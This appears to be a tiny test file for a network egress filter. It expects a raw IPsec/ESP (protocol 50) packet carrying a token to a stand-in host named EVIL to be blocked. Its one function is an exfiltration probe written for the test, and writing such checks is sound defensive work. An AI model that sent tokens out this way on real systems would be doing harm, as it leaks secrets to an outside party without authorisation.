"""
how: IPsec
expect: shut
"""

from land import EVIL
from sockets import raw


def attempt(token):
    return raw(EVIL, 50, b"\0\0\1\0\0\0\0\1" + token.encode())
